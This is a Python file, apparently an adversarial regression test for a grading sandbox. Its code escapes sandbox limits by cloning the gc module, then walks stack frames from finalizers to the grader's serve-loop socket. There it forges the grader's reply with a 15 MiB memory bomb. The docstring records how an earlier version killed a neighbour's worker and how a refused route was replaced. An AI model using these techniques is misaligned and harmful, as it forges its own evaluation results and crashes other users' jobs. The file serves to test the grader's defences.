"""Attack: reach the worker's serve loop through the garbage collector, then answer the grader with
a reply of its own: 15 MiB of ``[{},{},...]`` as the current request's DONE.

``gc.enable`` refuses in the sandbox, so the collector is switched on again through a fresh copy of
the ``gc`` module (``importlib.util.module_from_spec``), by a thread that keeps switching it on
(the serve loop switches it off before each request and reply). A finalizer that runs on the main
thread may not read a frame there, so it raises an exception and keeps it; the next call reads the
traceback's frame on its own thread, walks ``f_back`` to the serve loop and sends the frame with the
serve loop's socket and request number (independent attack round 4's route; in the first round, a
direct ``sys._getframe`` on the main thread, now refused). In the first round 64 MiB of it made the
grader hold 2 GB: OOM-killed in a 768 MB container, and in a memory-limited batch an honest
neighbour's worker was killed instead.

What must hold instead: no second ``gc`` module is made (a built-in module exists once in the
worker), so no finalizer runs on the serve loop's thread and nothing is forged; and were one forged,
the grader never trusts the channel: a document with more containers than a value may hold is
refused before it is parsed (tests/engine/test_codec.py), so its memory stays bounded and only the
attacker's calls fail; honest neighbours keep their solo scores. ``sequence_length`` answers wrong on
purpose, so that this file's honest part is nothing whether or not the forgery gets through
(``cfg_combine`` says how far it got).
"""
import importlib.util
import struct
import sys
import threading

MAIN = threading.main_thread().ident
KEPT = []  # exceptions raised by finalizers on the main thread, their tracebacks with them
SENT = []
COLLECTOR = []  # what became of the fresh gc module
STARTED = []


def _forge():
    for err in KEPT:
        f = err.__traceback__.tb_frame  # read here, on a call thread
        while f is not None and f.f_code.co_name != "_serve":
            f = f.f_back
        if f is None:
            continue
        sock, rid = f.f_locals["sock"], f.f_locals["rid"]
        body = b"[" + b"{}," * (5 * 1024 * 1024) + b"{}]"
        payload = struct.pack("<Q", len(body)) + body + struct.pack("<Q", 0)
        frame = struct.pack("<Q", 13 + len(payload)) + struct.pack("<BQI", 11, rid, 0) + payload
        view = memoryview(frame)
        while len(view):
            view = view[sock.sendmsg([view]):]
        SENT.append(len(frame))
        return


class _Bomb:
    def __init__(self):
        self.me = self

    def __del__(self):
        if threading.get_ident() != MAIN:
            _Bomb()  # stay in the collector's way until it runs on the main thread
            return
        if KEPT:
            return
        try:
            raise LookupError("made on the serve loop's thread")
        except LookupError as err:
            KEPT.append(err)


def _collector_on():
    """The serve loop turns collection off before each request and each reply: a thread of ours
    turns it on again, all the time, until a finalizer has run on the main thread."""
    try:
        gc = importlib.util.module_from_spec(importlib.util.find_spec("gc"))
    except BaseException as err:  # noqa: BLE001
        COLLECTOR.append(f"refused ({type(err).__name__})")
        return
    COLLECTOR.append("on")
    gc.set_threshold(1, 1, 1)

    def keep_on():
        while not KEPT:
            gc.enable()
        gc.disable()

    threading.Thread(target=keep_on, daemon=True).start()


def _step():
    """Each call moves the attack on: first the bombs, then (once a finalizer has kept an exception
    on the main thread) the forged reply."""
    if SENT:
        return
    if KEPT:
        _forge()
        return
    if not STARTED:
        STARTED.append(True)
        _collector_on()
    for _ in range(100):
        _Bomb()


def sequence_length(h, w, p):
    _step()
    return -1  # wrong on purpose: nothing here earns a point


def cfg_combine(eps_cond, eps_uncond, scale):
    _step()
    raise RuntimeError(f"collector: {COLLECTOR}, kept: {len(KEPT)}, sent: {SENT}")
